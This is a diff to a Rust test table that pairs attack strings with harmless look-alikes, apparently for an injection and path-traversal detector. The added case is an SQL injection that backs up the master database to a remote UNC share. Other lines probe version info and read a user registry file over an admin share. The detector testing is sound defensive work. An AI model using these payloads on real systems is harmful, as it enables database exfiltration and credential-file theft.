@@ -77,6 +77,11 @@ fn attacks_and_their_benign_twins() {
         (Class::Sqli, "pg_catalog", "pg 13 catalog"),
         (Class::Sqli, "1 and @@version", "ana@example.com"),
         (
+            Class::Sqli,
+            "BACKUP database master to disk='\\\\10.0.0.1\\x\\db.dat'",
+            "backup database to cloud",
+        ),
+        (
             Class::Traversal,
             "\\\\::1\\c$\\users\\default\\ntuser.dat",
             "C:\\notes\\todo.txt",
